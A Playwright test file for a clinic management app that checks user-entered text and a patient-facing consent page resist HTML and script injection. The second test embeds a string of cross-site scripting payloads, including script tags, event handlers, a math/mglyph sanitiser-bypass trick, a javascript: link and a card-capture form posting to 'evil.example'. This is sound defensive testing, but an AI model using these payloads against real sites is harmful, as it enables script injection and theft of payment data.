import { expect, test, type Page } from '@playwright/test';

import { call } from './api';
import { home, signedOut, stamp } from './clinics';
import { showAllTexts } from './examTexts';
import { expectNothingRan, htmlPayload } from './htmlInjection';
import { ownersPage, treatAsProvider } from './seed';
import { watchBrowser } from './browserLog';

const titled = (page: Page, name: string | RegExp) =>
  expect(page.getByRole('heading', { level: 1, name })).toBeVisible();

test('text that looks like code is shown as text on every screen', async ({
  page,
  context,
  browser,
}, info) => {
  test.setTimeout(180_000);
  const mark = stamp(info.project.name);
  const seeding = await ownersPage(browser);
  const { id } = await call<{ id: number }>(seeding, 'POST', '/api/patients', {
    first_name: htmlPayload,
    last_name: `${htmlPayload} ${mark}`,
    email: `x.${mark}@example.com`,
  });
  await call(seeding, 'POST', '/api/gfe', {
    patient_id: id,
    vitals: htmlPayload,
    ros_skin: htmlPayload,
    pe_skin: htmlPayload,
  });
  const { id: treatment } = await treatAsProvider(browser, {
    patient_id: id,
    treatment_type: 'Botox',
    areas: htmlPayload,
    notes: htmlPayload,
    lot: htmlPayload,
    units: 1,
  });
  const template = await call<{ id: number }>(seeding, 'POST', '/api/consents/templates', {
    name: `${htmlPayload} ${mark}`,
    body: `<p>Read this. ${htmlPayload}</p>`,
  });
  await call(seeding, 'POST', `/api/consents/${id}/issue`, { templateId: template.id });
  const { member } = await call<{ member: { id: number } }>(seeding, 'POST', '/api/team', {
    first_name: htmlPayload,
    last_name: mark,
    email: `member.${mark}@example.com`,
    role: 'Staff',
    department: 'Support',
    status: 'inactive',
    hire_date: '2026-01-05',
    license_number: htmlPayload,
    specialties: htmlPayload,
    notes: htmlPayload,
  });

  const browserLog = await watchBrowser(context, home);
  const visit = async (path: string, heading: string | RegExp, act?: () => Promise<unknown>) => {
    await page.goto(home + path);
    await titled(page, heading);
    await act?.();
    await expectNothingRan(page);
  };
  const shown = page.getByText(htmlPayload);
  await visit(`/patients?search=${mark}`, 'Clients', () => expect(shown.first()).toBeVisible());
  await visit(`/patients?search=${encodeURIComponent(htmlPayload)}`, 'Clients', () =>
    expect(page.getByRole('searchbox')).toHaveValue(htmlPayload),
  );
  await visit('/', 'Dashboard', () => expect(page.getByText(/ pending$/)).toBeVisible());
  await visit(`/patients/${id}`, mark, async () => {
    await expect(
      page.getByRole('region', { name: 'Treatment History' }).getByText(htmlPayload).first(),
    ).toBeVisible();
    await expect(
      page.getByRole('table', { name: 'Consents' }).getByText(htmlPayload).first(),
    ).toBeVisible();
    await page.getByRole('button', { name: /^Approve: / }).click();
    await expect(
      page.getByRole('dialog', { name: 'Approve treatment' }).getByText(htmlPayload).first(),
    ).toBeVisible();
  });
  await visit(`/gfe/${id}`, 'Good Faith Exam', async () => {
    await expect(shown.first()).toBeVisible();
    await page.getByRole('button', { name: 'New exam' }).click();
    await page.getByRole('button', { name: 'Start from the last exam' }).click();
    await showAllTexts(page);
    await expect(page.getByRole('textbox', { name: 'Skin PE' })).toHaveValue(htmlPayload);
    await page.getByRole('button', { name: 'Save exam' }).click();
    await expect(page.getByRole('button', { name: 'Write another exam' })).toBeVisible();
    await expect(shown.first()).toBeVisible();
  });
  await visit('/digital-consents', 'Consent templates', async () => {
    await expect(shown.first()).toBeVisible();
    await page.getByRole('button', { name: `Edit ${htmlPayload} ${mark}` }).click();
    await expect(page.getByRole('region', { name: 'Preview' })).toContainText('Read this.');
  });
  await visit('/team', 'Team', async () => {
    await page.getByRole('button', { name: `Edit ${htmlPayload} ${mark}` }).click();
    await expect(page.getByLabel('Notes')).toHaveValue(htmlPayload);
  });
  browserLog.expectNoErrors();

  await call(seeding, 'DELETE', `/api/consents/templates/${template.id}`);
  await call(seeding, 'DELETE', `/api/team/${member.id}`);
  expect(treatment).toBeGreaterThan(0);
  await seeding.context().close();
});

test('code planted in a consent does not run for the patient', async ({ browser }, info) => {
  const mark = stamp(info.project.name);
  const seeding = await ownersPage(browser);
  const { id } = await call<{ id: number }>(seeding, 'POST', '/api/patients', {
    first_name: 'Ada',
    last_name: mark,
  });
  const body = `<h2 onclick="window.ranByMistake='click'">Title</h2><p style="position:fixed;inset:0">Words</p><script>window.ranByMistake='script'</script><img src=x onerror="window.ranByMistake='image'">
    <svg><script>window.ranByMistake='svg'</script></svg><math><mtext><table><mglyph><style><!--</style><img src=x onerror="window.ranByMistake='math'">--></mglyph></table></mtext></math>
    <iframe srcdoc="<script>parent.ranByMistake='frame'</script>"></iframe><a href="javascript:window.ranByMistake='link'">Press</a><form action="https://evil.example/"><input name=card><button>Pay</button></form>`;
  const template = await call<{ id: number }>(seeding, 'POST', '/api/consents/templates', {
    name: `Planted ${mark}`,
    body,
  });
  const { portal_url } = await call<{ portal_url: string }>(
    seeding,
    'POST',
    `/api/consents/${id}/issue`,
    { templateId: template.id },
  );
  await call(seeding, 'DELETE', `/api/consents/templates/${template.id}`);
  await seeding.context().close();

  // Once sanitized by the server, and once as if it were not: the page sanitizes too.
  for (const trusting of [false, true]) {
    const context = await browser.newContext({ storageState: signedOut });
    const browserLog = await watchBrowser(context, home);
    const page = await context.newPage();
    if (trusting)
      await page.route('**/api/portal/consent/*', (route) =>
        route.fulfill({
          json: {
            template: body,
            clinic_name: 'Aurelle',
            time_zone: 'America/New_York',
            patient_first_name: 'Ada',
            signed_at: null,
          },
        }),
      );
    await page.goto(portal_url);
    await titled(page, 'Hello Ada');
    const text = page.getByRole('region', { name: 'Consent text' });
    await expect(text).toContainText('Words');
    await text.getByText('Title').click();
    const left = await text.evaluate((sheet) =>
      [...sheet.querySelectorAll('*')].map((one) => ({
        tag: one.tagName,
        attributes: one.attributes.length,
      })),
    );
    const allowed = new Set([
      'P',
      'BR',
      'HR',
      'H1',
      'H2',
      'H3',
      'H4',
      'UL',
      'OL',
      'LI',
      'B',
      'STRONG',
      'I',
      'EM',
      'U',
      'BLOCKQUOTE',
      'TABLE',
      'THEAD',
      'TBODY',
      'TR',
      'TH',
      'TD',
    ]);
    expect(left.filter(({ tag, attributes }) => !allowed.has(tag) || attributes > 0)).toEqual([]);
    await expectNothingRan(page);
    // Sanitized in a document without a window, the injected code violates the policy there, which is reported. Nothing else happens.
    expect({ foreignRequests: browserLog.foreignRequests, refused: browserLog.refused }).toEqual({
      foreignRequests: [],
      refused: [],
    });
    if (!trusting) browserLog.expectNoErrors();
    await context.close();
  }
});
